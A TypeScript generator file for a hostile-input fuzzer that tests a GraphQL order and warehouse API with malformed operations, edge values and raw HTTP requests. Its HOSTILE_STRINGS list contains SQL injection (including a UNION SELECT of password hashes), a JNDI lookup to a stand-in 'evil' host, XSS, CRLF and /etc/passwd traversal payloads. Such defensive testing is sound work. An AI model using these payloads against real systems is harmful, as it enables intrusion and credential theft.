import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { gzipSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  GraphQLField,
  GraphQLInputType,
  GraphQLNamedType,
  GraphQLObjectType,
  GraphQLOutputType,
  GraphQLSchema,
  isAbstractType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
} from 'graphql';
import { REPO_ROOT } from '../../src/config';

/**
 * The hostile-input fuzzer's generators: GraphQL operations built from schema.graphql (every Query and
 * Mutation field, arguments from their input types: plausible values, boundaries, wrong types, nulls for
 * non-null, hostile strings, bad ids, unknown enum values, extra fields), malformed HTTP requests, and
 * the check every answer has to pass (no 5xx, nothing internal shown, every error typed).
 */

export function loadSchema(): GraphQLSchema {
  return buildSchema(fs.readFileSync(path.join(REPO_ROOT, 'schema.graphql'), 'utf8'));
}

// ---------------------------------------------------------------------------------------------------
// Values

/** An enum value (or anything written bare in GraphQL, e.g. NaN); in JSON variables it is its name. */
export class EnumLit {
  constructor(readonly name: string) {}
  toJSON() {
    return this.name;
  }
}
export type Val = null | boolean | number | string | EnumLit | Val[] | { [key: string]: Val };

const NAME = /^[_A-Za-z][_0-9A-Za-z]*$/;

/** A value as a GraphQL literal, the way a client would write it inline. */
export function literal(v: Val): string {
  if (v === null) return 'null';
  if (v instanceof EnumLit) return NAME.test(v.name) ? v.name : JSON.stringify(v.name);
  if (Array.isArray(v)) return `[${v.map(literal).join(', ')}]`;
  switch (typeof v) {
    case 'string':
      return JSON.stringify(v);
    case 'boolean':
      return String(v);
    case 'number':
      if (Object.is(v, -0)) return '-0';
      if (Number.isFinite(v)) return String(v);
      return Number.isNaN(v) ? 'NaN' : v > 0 ? 'Infinity' : '-Infinity';
    default:
      return `{${Object.entries(v)
        .map(([k, x]) => `${NAME.test(k) ? k : 'not_a_name'}: ${literal(x)}`)
        .join(', ')}}`;
  }
}

/** What the fuzzer knows of the database: real ids, SKUs, codes, so that many requests get deep. */
export interface Pools {
  gids: Record<string, string[]>;
  skus: string[];
  warehouseCodes: string[];
  orderNumbers: string[];
  emails: string[];
  cursors: string[];
  phones: string[];
}

const b64 = (s: string) => Buffer.from(s).toString('base64url');

export const HOSTILE_STRINGS: string[] = [
  '',
  ' ',
  '   \t\n ',
  '\u0000',
  'a\u0000b',
  '\u0000\u0000\u0000',
  "' OR '1'='1",
  "'; DROP TABLE orders; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)--',
  "') UNION SELECT email, password_hash FROM staff_user --",
  '\\',
  '\\\\\\',
  '%',
  '_',
  '%_%',
  '\\%',
  '$1',
  '$$',
  ':param',
  '?',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '{"$gt": ""}',
  '{"__proto__": {"isAdmin": true}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x7fffffff',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '\uFEFFBOM',
  '\u202Eevil\u202C',
  '\u200B\u200C\u200D',
  'مرحبا بالعالم',
  'שלום',
  '上海浦东仓',
  '😀🚚📦',
  '👩‍👩‍👧‍👦',
  'Z̷̢̛̛a̶l̸g̷o̴',
  '\uD800',
  '\uDFFF',
  'x\uD83Dy',
  '\r\n\r\nHTTP/1.1 200 OK\r\n',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  'admin@demo.local',
  'ADMIN@DEMO.LOCAL ',
  'a@b',
  '@',
  'SO',
  'T-',
  'SH-01',
  'sh-01',
  'SH-01\u0000',
  ' SH-01 ',
  '2024-01-01T00:00:00Z',
  '13912345678',
  '+86 139 1234 5678',
  'zh-CN',
  'en',
  'EN',
  'fk_',
  'fk_abc_def',
];

const LONG_LENGTHS = [33, 64, 65, 100, 101, 200, 201, 256, 500, 501, 1001, 4097, 20_000, 100_000];
const longString = fc
  .tuple(fc.constantFrom(...LONG_LENGTHS), fc.constantFrom('x', '9', 'é', '😀', '\u0000', "'", '%', '\\', ' '))
  .map(([n, c]) => c.repeat(n));

const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: longString },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 6 }), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([a, h]) => `${a}${h}${a}`),
  },
);

const wrongType: fc.Arbitrary<Val> = fc.oneof<fc.Arbitrary<Val>[]>(
  fc.string({ maxLength: 8 }),
  fc.integer(),
  fc.boolean(),
  fc.double(),
  fc.constant<Val>({ a: 1 }),
  fc.constant<Val>([1, 'two', null]),
  fc.constant<Val>([]),
  fc.constant<Val>({}),
  fc.constant(new EnumLit('WRONG_ENUM')),
  fc.constant(new EnumLit('NaN')),
  fc.constant(new EnumLit('Infinity')),
);

const INT_EDGES = [
  0,
  -1,
  1,
  2,
  99,
  100,
  101,
  1000,
  9999,
  10_000,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  -(2 ** 31) - 1,
  2 ** 53,
  -(2 ** 53),
  2 ** 53 + 2,
  1e21,
  -0,
];
const INT32_EDGES = INT_EDGES.filter((n) => Number.isInteger(n) && n >= -(2 ** 31) && n < 2 ** 31);
const intArb = (name: string, wild: boolean): fc.Arbitrary<Val> => {
  const plausible =
    name === 'first'
      ? fc.integer({ min: 1, max: 100 })
      : name === 'quantity'
        ? fc.integer({ min: 1, max: 5 })
        : name === 'delta'
          ? fc.integer({ min: -5, max: 20 })
          : fc.integer({ min: 0, max: 50 });
  if (!wild)
    return fc.oneof(
      { weight: 6, arbitrary: plausible },
      { weight: 2, arbitrary: fc.constantFrom(...INT32_EDGES) },
      { weight: 1, arbitrary: fc.integer() },
    );
  return fc.oneof(
    { weight: 6, arbitrary: plausible },
    { weight: 3, arbitrary: fc.constantFrom(...INT_EDGES) },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.constantFrom(1.5, -0.5, NaN, Infinity, 5e-324, 1.7976931348623157e308) },
    { weight: 1, arbitrary: fc.constantFrom('1', 'NaN', '0x10', '1e3', '', ' 1', '-0', '2147483648') },
  );
};

const DATES = [
  '0001-01-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '1000-01-01T00:00:00Z',
  '1900-01-01T00:00:00Z',
  '1969-12-31T23:59:59.999Z',
  '1970-01-01T00:00:00Z',
  '2038-01-19T03:14:08Z',
  '9999-12-31T23:59:59Z',
  '9999-12-31T23:59:59.999999999Z',
  '+275760-09-13T00:00:00.000Z',
  '-000001-01-01T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '2024-02-30T00:00:00Z',
  '2023-02-29T00:00:00Z',
  '2024-13-01T00:00:00Z',
  '2024-01-01T24:00:00Z',
  '2024-01-01T23:59:60Z',
  '2024-01-01',
  '2024-01-01T00:00:00',
  '2024-01-01T00:00:00+14:00',
  '2024-01-01T00:00:00-23:59',
  '2024-01-01T00:00:00+99:99',
  '2024-01-01 00:00:00Z',
  'now',
  'today',
  'Invalid Date',
  '1700000000000',
  '',
];
const dateArb: fc.Arbitrary<Val> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2035-01-01T00:00:00Z'), noInvalidDate: true })
      .map((d) => d.toISOString()),
  },
  { weight: 3, arbitrary: fc.constantFrom(...DATES) },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((d) => d.toISOString()) },
  {
    weight: 1,
    arbitrary: fc.oneof(fc.integer(), fc.constantFrom(0, -1, 8.64e15, 8.64e15 + 1, -8.64e15 - 1, 1e20, 1.5, 2 ** 53)),
  },
);

const NODE_TYPES = [
  'Order',
  'Product',
  'Warehouse',
  'Customer',
  'StockLevel',
  'OrderEvent',
  'StockMovement',
  'User',
  'ApiKey',
];

const badIds: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'not-an-id',
    '',
    ' ',
    '====',
    'A'.repeat(199),
    'A'.repeat(201),
    'A'.repeat(5000),
    b64("Order:' OR '1'='1"),
    b64('Order:00000000-0000-0000-0000-000000000000'),
    b64('Order:ffffffff-ffff-ffff-ffff-ffffffffffff'),
    b64('Order:'),
    b64(':00000000-0000-0000-0000-000000000000'),
    b64('OrderEvent:0'),
    b64('OrderEvent:-1'),
    b64('OrderEvent:999999999999999999'),
    b64('OrderEvent:9223372036854775807'),
    b64('OrderEvent:99999999999999999999'),
    b64('StockMovement:1.5'),
    b64('StockMovement:1e3'),
    b64('Customer:00000000-0000-0000-0000-00000000000g'),
    b64('Customer:00000000-0000-0000-0000-000000000000\u0000'),
    b64('Nope:00000000-0000-0000-0000-000000000000'),
    b64('__proto__:00000000-0000-0000-0000-000000000000'),
    b64('constructor:1'),
    b64('Order:00000000-0000-0000-0000-000000000000:extra'),
    'T3JkZXI6MDAwMDAwMDAtMDAwMC0wMDAwLTAwMDAtMDAwMDAwMDAwMDAw=', // base64 with padding
    'T3JkZXI6MDAwMDAwMDAtMDAwMC0wMDAwLTAwMDAtMDAwMDAwMDAwMDAw\n',
    '%00',
  ),
  fc
    .tuple(
      fc.constantFrom(...NODE_TYPES, 'order', 'ORDER', 'Node'),
      fc.oneof(fc.uuid(), fc.bigInt({ min: -10n, max: 10n ** 20n }).map(String), text),
    )
    .map(([t, id]) => b64(`${t}:${id}`)),
  fc.base64String({ maxLength: 60 }),
  text,
);

const ID_FIELDS: Record<string, string> = {
  customerId: 'Customer',
  orderId: 'Order',
  userId: 'User',
  apiKeyId: 'ApiKey',
};

function pick(pool: string[] | undefined, fallback: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return pool && pool.length ? fc.constantFrom(...pool) : fallback;
}

function idArb(name: string, pools: Pools, wild: boolean): fc.Arbitrary<Val> {
  const all = Object.values(pools.gids).flat();
  const own = ID_FIELDS[name] ? pools.gids[ID_FIELDS[name]] : all;
  if (!wild)
    return fc.oneof(
      { weight: 8, arbitrary: pick(own, badIds) },
      { weight: 1, arbitrary: pick(all, badIds) },
      { weight: 2, arbitrary: badIds },
    );
  return fc.oneof(
    { weight: 6, arbitrary: pick(own, badIds) },
    { weight: 2, arbitrary: pick(all, badIds) },
    { weight: 4, arbitrary: badIds },
    { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.constantFrom(0, -1, 2 ** 53, 1.5)) },
  );
}

function stringArb(name: string, pools: Pools): fc.Arbitrary<Val> {
  const n = name.toLowerCase();
  let plausible: fc.Arbitrary<string> | null = null;
  if (n === 'sku') plausible = pick(pools.skus, text);
  else if (n === 'warehousecode') plausible = pick(pools.warehouseCodes, text);
  else if (n === 'number' || n === 'search')
    plausible = fc.oneof(
      pick(pools.orderNumbers, text),
      pick(pools.orderNumbers, text).map((s) => s.slice(-6)),
    );
  else if (n === 'email' || n === 'actor') plausible = fc.oneof(pick(pools.emails, text), fc.emailAddress());
  else if (n === 'password')
    plausible = fc.constantFrom('demo', 'wrong-password', 'correct horse battery staple', 'x'.repeat(201), 'short');
  else if (n === 'after') plausible = fc.oneof(pick(pools.cursors, text), cursorArb);
  else if (n === 'phone') plausible = pick(pools.phones, text);
  else if (n === 'locale') plausible = fc.constantFrom('zh-CN', 'en', 'de', 'zh-cn', 'en-US');
  else if (n === 'region') plausible = fc.constantFrom('EAST', 'NORTH');
  else if (n === 'action')
    plausible = fc.constantFrom('LOGIN', 'PLACE_ORDER', 'ACCESS_DENIED', 'API_KEY_USED', 'CUSTOMER_PII_READ');
  else if (n === 'targetid')
    plausible = fc.oneof(pick(pools.emails, text), pick(Object.values(pools.gids).flat(), text));
  else
    plausible = fc.oneof(
      fc.constantFrom('王芳', '人民路1号', '上海', 'Customer asked to hold', 'hostile test'),
      fc.string({ minLength: 1, maxLength: 20 }),
    );
  return fc.oneof({ weight: 5, arbitrary: plausible }, { weight: 5, arbitrary: text });
}

/** Cursors: base64url of JSON arrays of the right and wrong shapes (keyset values reach SQL). */
const cursorArb: fc.Arbitrary<string> = fc
  .oneof(
    fc.tuple(
      fc.constantFrom(...DATES, '2024-01-01T00:00:00.000Z', '1', 'Mon', '2024', '0', '99999-01-01'),
      fc.oneof(fc.uuid(), text),
    ),
    fc.tuple(fc.oneof(fc.constantFrom('1', '0', '999999999999999999', '-1', '1e3', '9223372036854775808'), text)),
    fc.tuple(text),
    fc.tuple(
      fc.constantFrom('2024-01-01T00:00:00.000Z'),
      fc.constantFrom('00000000-0000-0000-0000-000000000000'),
      fc.constant('extra'),
    ),
    fc.jsonValue({ maxDepth: 2 }).map((v) => [v]),
  )
  .map((values) => b64(JSON.stringify(values)));

function scalarArb(typeName: string, name: string, pools: Pools, wild: boolean): fc.Arbitrary<Val> {
  switch (typeName) {
    case 'Int':
      return intArb(name, wild);
    case 'Float':
      return fc.oneof(fc.double(), fc.constantFrom(0, -0, 1e308, NaN));
    case 'Boolean':
      return wild
        ? fc.oneof(
            { weight: 8, arbitrary: fc.boolean() },
            { weight: 1, arbitrary: fc.constantFrom('true', 1, 0, 'false') },
          )
        : fc.boolean();
    case 'ID':
      return idArb(name, pools, wild);
    case 'DateTimeISO':
      return wild
        ? dateArb
        : fc.oneof(
            fc
              .date({
                min: new Date('2020-01-01T00:00:00Z'),
                max: new Date('2035-01-01T00:00:00Z'),
                noInvalidDate: true,
              })
              .map((d) => d.toISOString()),
            fc.constantFrom(...DATES.slice(0, 9)),
          );
    case 'String':
      return stringArb(name, pools);
    default:
      return fc.oneof(fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Val>, text);
  }
}

function enumArb(values: string[], wild: boolean): fc.Arbitrary<Val> {
  if (!wild) return fc.constantFrom(...values).map((v) => new EnumLit(v));
  return fc.oneof(
    { weight: 10, arbitrary: fc.constantFrom(...values).map((v) => new EnumLit(v)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('FAX', 'UNKNOWN', 'null', 'true', '__proto__', 'ADMIN').map((v) => new EnumLit(v)),
    },
    { weight: 1, arbitrary: fc.constantFrom(...values).map((v) => new EnumLit(v.toLowerCase())) },
    { weight: 1, arbitrary: fc.constantFrom(...values) }, // a string: fine in variables, wrong inline
    { weight: 1, arbitrary: fc.oneof(fc.integer({ min: -1, max: 10 }), text) },
  );
}

const EXTRA_KEYS = ['extra', '__proto__', 'constructor', 'id', 'admin', 'role', 'status', 'onHand', 'price'];

/**
 * A value for an input position. Wild: sometimes null where null is forbidden, of the wrong type, an
 * unknown enum value or beyond 32 bits, so it is refused before execution. Not wild: of the right type
 * (passes GraphQL validation) but with hostile content, so it reaches the resolvers and the database.
 */
export function valueArb(
  type: GraphQLInputType,
  name: string,
  pools: Pools,
  wild: boolean,
  depth = 0,
): fc.Arbitrary<Val> {
  if (!wild) {
    if (isNonNullType(type)) return nullableValueArb(type.ofType, name, pools, wild, depth);
    return fc.oneof(
      { weight: 8, arbitrary: nullableValueArb(type, name, pools, wild, depth) },
      { weight: 1, arbitrary: fc.constant(null) },
    );
  }
  if (isNonNullType(type)) {
    return fc.oneof(
      { weight: 30, arbitrary: nullableValueArb(type.ofType, name, pools, wild, depth) },
      { weight: 1, arbitrary: fc.constant(null) },
      { weight: 1, arbitrary: wrongType },
    );
  }
  return fc.oneof(
    { weight: 20, arbitrary: nullableValueArb(type, name, pools, wild, depth) },
    { weight: 2, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: wrongType },
  );
}

function nullableValueArb(
  type: GraphQLInputType,
  name: string,
  pools: Pools,
  wild: boolean,
  depth: number,
): fc.Arbitrary<Val> {
  if (isListType(type)) {
    const el = valueArb(type.ofType, name, pools, wild, depth + 1);
    return fc.oneof(
      { weight: 10, arbitrary: fc.array(el, { maxLength: 4 }) },
      { weight: wild ? 2 : 0, arbitrary: el }, // a single value where a list is expected (input coercion)
      { weight: 1, arbitrary: fc.array(el, { minLength: 95, maxLength: 130 }) },
    );
  }
  if (isInputObjectType(type)) {
    if (depth > 4) return fc.constant({});
    const fields = Object.values(type.getFields());
    const model: Record<string, fc.Arbitrary<Val>> = {};
    for (const f of fields) model[f.name] = valueArb(f.type, f.name, pools, wild, depth + 1);
    const required = fields.filter((f) => isNonNullType(f.type) && f.defaultValue === undefined).map((f) => f.name);
    const base = fc.record(model, { requiredKeys: required }) as fc.Arbitrary<Record<string, Val>>;
    if (!wild) return base;
    return fc.oneof(
      { weight: 14, arbitrary: base },
      {
        weight: required.length ? 1 : 0,
        arbitrary: fc.tuple(base, fc.constantFrom(...(required.length ? required : ['_']))).map(([o, k]) => {
          const c = { ...o };
          delete c[k];
          return c;
        }),
      },
      {
        weight: 1,
        arbitrary: fc.tuple(base, fc.constantFrom(...EXTRA_KEYS), wrongType).map(([o, k, v]) => ({ ...o, [k]: v })),
      },
    );
  }
  if (isEnumType(type))
    return enumArb(
      type.getValues().map((v) => v.name),
      wild,
    );
  if (isScalarType(type)) return scalarArb(type.name, name, pools, wild);
  return wrongType;
}

// ---------------------------------------------------------------------------------------------------
// Selections

const CONNECTION = /Connection$/;

function argsSuffix(args: { name: string; value: Val }[]): string {
  return args.length ? `(${args.map((a) => `${a.name}: ${literal(a.value)}`).join(', ')})` : '';
}

/** Arguments of a nested field (Customer.orders(first:), StockLevel.movements(...)), written inline. */
function nestedArgsArb(field: GraphQLField<unknown, unknown>, pools: Pools): fc.Arbitrary<string> {
  if (!field.args.length) return fc.constant('');
  const arbs = field.args.map((a) =>
    fc
      .option(valueArb(a.type, a.name, pools, false, 1), { nil: undefined, freq: 2 })
      .map((v) => ({ name: a.name, value: v })),
  );
  return fc
    .tuple(...arbs)
    .map((list) => argsSuffix(list.filter((a): a is { name: string; value: Val } => a.value !== undefined)));
}

export class SelectionBuilder {
  private cache = new Map<string, fc.Arbitrary<string>>();
  constructor(
    private readonly schema: GraphQLSchema,
    private readonly pools: Pools,
  ) {}

  /** A selection set for a field of this type (empty for scalars and enums). */
  of(type: GraphQLOutputType, depth: number): fc.Arbitrary<string> {
    const named = getNamedType(type);
    if (isLeafType(named)) return fc.constant('');
    const key = `${named.name}/${depth}`;
    let arb = this.cache.get(key);
    if (!arb) {
      arb = this.build(named, depth);
      this.cache.set(key, arb);
    }
    return arb;
  }

  private build(named: GraphQLNamedType, depth: number): fc.Arbitrary<string> {
    if (isAbstractType(named)) {
      const impls = [...this.schema.getPossibleTypes(named)];
      return fc
        .subarray(impls, { maxLength: Math.min(3, impls.length) })
        .chain((ts) =>
          ts.length
            ? fc.tuple(
                ...ts.map((t) => this.objectSelection(t, Math.min(depth - 1, 1)).map((s) => `... on ${t.name} ${s}`)),
              )
            : fc.constant([] as string[]),
        )
        .map((parts) => `{ __typename id ${parts.join(' ')} }`);
    }
    if (!isObjectType(named)) return fc.constant('{ __typename }');
    return this.objectSelection(named, depth);
  }

  private objectSelection(t: GraphQLObjectType, depth: number): fc.Arbitrary<string> {
    const fields = Object.values(t.getFields());
    if (CONNECTION.test(t.name)) {
      const nodeType = (getNamedType(t.getFields().edges.type) as GraphQLObjectType).getFields().node.type;
      return fc
        .tuple(this.of(nodeType, depth - 1), fc.boolean(), fc.boolean())
        .map(
          ([node, cursor, pageInfo]) =>
            `{ edges { ${cursor ? 'cursor ' : ''}node ${node} } ${pageInfo ? 'pageInfo { hasNextPage hasPreviousPage startCursor endCursor }' : ''} }`,
        );
    }
    const leaves = fields
      .filter((f) => isLeafType(getNamedType(f.type)) && f.args.every((a) => !isNonNullType(a.type)))
      .map((f) => f.name);
    const objects = fields.filter(
      (f) =>
        !isLeafType(getNamedType(f.type)) && f.name !== 'userErrors' && f.args.every((a) => !isNonNullType(a.type)),
    );
    const userErrors = t.getFields().userErrors ? 'userErrors { code field message } ' : '';
    const leafSel = fc.subarray(leaves, {
      minLength: leaves.length && !userErrors ? 1 : 0,
      maxLength: Math.min(8, leaves.length),
    });
    // Payloads always show their object (order, stockLevel, user …) so a mutation's result is read back.
    const nested =
      depth <= 0 || !objects.length
        ? fc.constant([] as string[])
        : fc
            .subarray(objects, {
              minLength: userErrors ? 1 : 0,
              maxLength: userErrors ? objects.length : Math.min(2, objects.length),
            })
            .chain((os) =>
              os.length
                ? fc.tuple(
                    ...os.map((f) =>
                      fc
                        .tuple(nestedArgsArb(f, this.pools), this.of(f.type, depth - 1))
                        .map(([args, sel]) => `${f.name}${args} ${sel}`),
                    ),
                  )
                : fc.constant([] as string[]),
            );
    return fc.tuple(leafSel, nested, fc.boolean()).map(([ls, ns, typename]) => {
      const parts = [
        userErrors,
        typename || (!ls.length && !ns.length && !userErrors) ? '__typename' : '',
        ...ls,
        ...ns,
      ].filter(Boolean);
      return `{ ${parts.join(' ')} }`;
    });
  }
}

// ---------------------------------------------------------------------------------------------------
// Operations

export type Identity = 'admin' | 'warehouse' | 'service' | 'dispatcher' | 'apiKey' | 'anonymous' | 'badToken';

interface ArgCall {
  name: string;
  /** The argument's type in the schema, or (rarely) a wrong one to declare the variable with. */
  declared: string;
  value: Val;
  /** Inline literal, a variable, or a declared variable whose value is left out of `variables`. */
  how: 'inline' | 'variable' | 'missingVariable';
}

interface FieldCall {
  field: string;
  alias: string | null;
  args: ArgCall[];
  selection: string;
}

export interface OpCase {
  kind: 'op';
  operation: 'query' | 'mutation';
  calls: FieldCall[];
  identity: Identity;
  operationName: string | null;
  wild: boolean;
}

const WRONG_DECLARATIONS = [
  'String',
  'Int',
  'ID',
  'Boolean!',
  '[String]',
  'Float',
  'Unknown',
  'DateTimeISO',
  'PlaceOrderInput',
  'Region',
];

function fieldCallArb(
  field: GraphQLField<unknown, unknown>,
  selections: SelectionBuilder,
  pools: Pools,
  wild: boolean,
): fc.Arbitrary<FieldCall> {
  const argArbs = field.args.map((a) => {
    const required = isNonNullType(a.type) && a.defaultValue === undefined;
    const call = fc
      .tuple(
        valueArb(a.type, a.name, pools, wild),
        fc.oneof(
          { weight: 10, arbitrary: fc.constant<ArgCall['how']>('inline') },
          { weight: 10, arbitrary: fc.constant<ArgCall['how']>('variable') },
          { weight: wild ? 1 : 0, arbitrary: fc.constant<ArgCall['how']>('missingVariable') },
        ),
        fc.oneof(
          { weight: 12, arbitrary: fc.constant(String(a.type)) },
          { weight: wild ? 1 : 0, arbitrary: fc.constantFrom(...WRONG_DECLARATIONS) },
        ),
      )
      .map(([value, how, declared]): ArgCall => ({ name: a.name, declared, value, how }));
    // Optional arguments are often left out; required ones rarely (never unless wild).
    if (required && !wild) return call;
    return fc.option(call, { nil: undefined, freq: required ? 25 : 3 });
  });
  return fc
    .tuple(
      fc.tuple(...argArbs),
      selections.of(field.type, 2),
      fc.option(fc.constantFrom('a', 'b', 'x_1', 'userErrors', '__typename_'), { freq: 5, nil: null }),
    )
    .map(([args, selection, alias]) => ({
      field: field.name,
      alias,
      args: args.filter((a): a is ArgCall => a !== undefined),
      selection,
    }));
}

const IDENTITY: fc.Arbitrary<Identity> = fc.oneof(
  { weight: 12, arbitrary: fc.constant<Identity>('admin') },
  { weight: 2, arbitrary: fc.constantFrom<Identity>('warehouse', 'service', 'dispatcher', 'apiKey') },
  { weight: 1, arbitrary: fc.constantFrom<Identity>('anonymous', 'badToken') },
);

/** Operations on every Query and Mutation field of the schema. */
export function operationArb(schema: GraphQLSchema, pools: Pools, excluded: string[] = []): fc.Arbitrary<OpCase> {
  const selections = new SelectionBuilder(schema, pools);
  const root = (t: GraphQLObjectType | null | undefined) =>
    Object.values(t!.getFields()).filter((f) => !excluded.includes(f.name));
  const calls = (wild: boolean) => ({
    query: fc.array(fc.oneof(...root(schema.getQueryType()).map((f) => fieldCallArb(f, selections, pools, wild))), {
      minLength: 1,
      maxLength: 3,
    }),
    mutation: fc.array(
      fc.oneof(...root(schema.getMutationType()).map((f) => fieldCallArb(f, selections, pools, wild))),
      { minLength: 1, maxLength: 1 },
    ),
  });
  // Half the operations are well typed (they run, hostile content reaches the resolvers), half wild.
  const byWildness = [calls(false), calls(true)];
  return fc
    .tuple(
      fc.oneof(
        { weight: 11, arbitrary: fc.constant('query' as const) },
        { weight: 9, arbitrary: fc.constant('mutation' as const) },
      ),
      fc.boolean(),
      IDENTITY,
      fc.option(fc.constantFrom('Fuzz', 'Other'), { nil: null }),
    )
    .chain(([operation, wild, identity, operationName]) =>
      byWildness[wild ? 1 : 0][operation].map((list): OpCase => ({
        kind: 'op',
        operation,
        calls: list,
        identity,
        operationName,
        wild,
      })),
    );
}

/** The operation text and its variables. */
export function renderOperation(op: OpCase): {
  query: string;
  variables: Record<string, unknown>;
  operationName?: string;
} {
  const declarations: string[] = [];
  const variables: Record<string, unknown> = {};
  let n = 0;
  const used = new Set<string>();
  const fields = op.calls.map((c, i) => {
    const args = c.args.map((a) => {
      if (a.how === 'inline') return `${a.name}: ${literal(a.value)}`;
      const v = `v${n++}`;
      declarations.push(`$${v}: ${a.declared}`);
      if (a.how === 'variable') variables[v] = a.value;
      return `${a.name}: $${v}`;
    });
    // Repeated root fields need distinct aliases unless their arguments are the same.
    let alias = c.alias ?? (used.has(c.field) ? `f${i}` : null);
    if (alias && used.has(alias)) alias = `${alias}${i}`;
    used.add(alias ?? c.field);
    return `${alias ? `${alias}: ` : ''}${c.field}${args.length ? `(${args.join(', ')})` : ''} ${c.selection}`;
  });
  const head = `${op.operation}${op.operationName ? ` ${op.operationName}` : ''}${declarations.length ? `(${declarations.join(', ')})` : ''}`;
  return {
    query: `${head} { ${fields.join(' ')} }`,
    variables,
    ...(op.operationName ? { operationName: op.operationName } : {}),
  };
}

// ---------------------------------------------------------------------------------------------------
// Raw HTTP requests

export interface RawCase {
  kind: 'raw';
  label: string;
  method: string;
  /** Path and query string. */
  path: string;
  headers: Record<string, string>;
  body: Buffer | null;
  /** Send the admin token (added when sending) unless this request sets its own Authorization. */
  auth: boolean;
}

const JSON_CT = { 'content-type': 'application/json' };
const raw = (
  label: string,
  body: string | Buffer | null,
  headers: Record<string, string> = JSON_CT,
  method = 'POST',
  path = '/graphql',
  auth = true,
): RawCase => ({
  kind: 'raw',
  label,
  method,
  path,
  headers,
  body: body === null ? null : Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'),
  auth,
});

const SIMPLE = '{ __typename }';
const VALID_BODIES = [
  JSON.stringify({ query: SIMPLE }),
  JSON.stringify({ query: '{ orders(first: 2) { edges { node { number status } } } }' }),
  JSON.stringify({ query: 'query($f: Int) { products(first: $f) { edges { node { sku } } } }', variables: { f: 3 } }),
  JSON.stringify({
    query: 'mutation($i: LoginInput!) { login(input: $i) { token userErrors { code } } }',
    variables: { i: { email: 'nobody@example.com', password: 'x' } },
  }),
];

/** Operations whose shape (not their values) is hostile: cycles, subscriptions over HTTP, odd directives … */
const STRUCTURAL_QUERIES = [
  'fragment A on Query { ...B } fragment B on Query { ...A } { ...A }',
  'fragment A on Query { ...A } query { ...A }',
  'query { ...Missing }',
  'subscription { stockAlert { sku } }',
  'subscription { orderStatusChanged { sequence } }',
  'query A { __typename } query A { __typename }',
  'query A { __typename } query B { __typename }',
  '{ __schema { types { name } } }',
  '{ __type(name: "Order") { fields { name } } }',
  '{ __typename @skip(if: "yes") }',
  '{ __typename @include }',
  '{ __typename @deprecated }',
  '{ __typename @requires(permission: "x") }',
  '{ __typename @unknown }',
  'query($a: Int = "x") { orders(first: $a) { edges { cursor } } }',
  'query($a: Int!) { __typename }',
  'query($a: Int, $a: Int) { orders(first: $a) { edges { cursor } } }',
  'query { orders(first: $undeclared) { edges { cursor } } }',
  'query { orders(first: 1, first: 2) { edges { cursor } } }',
  'query { orders { edges { node } } }',
  'query { orders }',
  'query { nope }',
  'query { me { email(x: 1) } }',
  'query { node(id: "x") { ... on Nope { id } } }',
  'query { node(id: "x") { ... on Order { id } ... on Order { number: status } } }',
  'query { a: me { email } a: me { name } }',
  'mutation { logout { loggedOut } } mutation { logout { loggedOut } }',
  '{',
  '}',
  '{ { } }',
  'query query query',
  '"""unterminated',
  '"\\u{110000}"',
  '{ orders(first: 1) { edges { node { number } } } } # trailing comment',
  '\uFEFF{ __typename }',
  '{ __typename }\u0000',
  '{ __typename } garbage',
  '{ __typename ' + '{'.repeat(2000),
  '{ ' + 'me { '.repeat(300) + '}'.repeat(300) + ' }',
  '{ ' + '__typename '.repeat(3990) + '}',
  'query(' + Array.from({ length: 900 }, (_, i) => `$v${i}: Int`).join(', ') + ') { __typename }',
  '{ orders(filter: {' + Array.from({ length: 900 }, (_, i) => `f${i}: 1`).join(', ') + '}) { edges { cursor } } }',
  '{ orders(first: 1) { edges { node { id ' + Array.from({ length: 900 }, () => 'number').join(' ') + ' } } } }',
];

function deepArray(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

const validBody = fc.constantFrom(...VALID_BODIES);

export function rawArb(): fc.Arbitrary<RawCase> {
  const byteGarbage = fc.uint8Array({ minLength: 1, maxLength: 400 }).map((b) => Buffer.from(b));
  const cases: fc.Arbitrary<RawCase>[] = [
    // Invalid JSON: truncated valid bodies, random text and bytes.
    fc.tuple(validBody, fc.nat()).map(([b, k]) => raw('truncated JSON', b.slice(0, k % b.length))),
    fc.string({ unit: 'grapheme', maxLength: 60 }).map((s) => raw('random text as JSON', s)),
    byteGarbage.map((b) => raw('random bytes as JSON', b)),
    byteGarbage.map((b) => raw('random bytes as octet-stream', b, { 'content-type': 'application/octet-stream' })),
    fc
      .constantFrom(
        '{"query": "{ __typename }",}',
        "{'query': '{ __typename }'}",
